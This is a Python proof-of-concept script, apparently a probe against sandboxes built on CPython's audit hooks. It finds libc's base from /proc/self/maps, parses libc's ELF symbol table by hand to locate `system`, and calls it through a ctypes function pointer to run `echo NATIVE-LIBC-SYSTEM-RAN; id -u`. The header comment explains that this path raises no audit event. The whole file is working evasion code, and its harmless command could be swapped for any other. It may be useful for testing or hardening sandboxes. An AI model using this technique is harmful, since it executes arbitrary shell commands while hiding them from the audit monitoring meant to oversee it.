# a native call with no reported event: CPython 3.11 raises no audit event when a ctypes function
# pointer is called; only dlopen/dlsym/addressof/from_address... are audited. libc's `system` is found from
# /proc/self/maps and libc's own symbol table (plain file reads), then called through CFUNCTYPE.
import ctypes, struct
base = path = None
for line in open("/proc/self/maps"):
    f = line.split()
    if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
        base, path = int(f[0].split("-")[0], 16), f[5]; break
elf = open(path, "rb").read()
shoff, = struct.unpack_from("<Q", elf, 0x28); shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
secs = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
dynsym = next(s for s in secs if s[1] == 11)          # SHT_DYNSYM
strtab = secs[dynsym[6]]
addr = None
for off in range(dynsym[4], dynsym[4] + dynsym[5], 24):
    name, info, other, shndx, value, size = struct.unpack_from("<IBBHQQ", elf, off)
    s = elf[strtab[4] + name: elf.index(b"\0", strtab[4] + name)]
    if s == b"system": addr = base + value; break
system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(addr)
system(b"echo NATIVE-LIBC-SYSTEM-RAN; id -u")
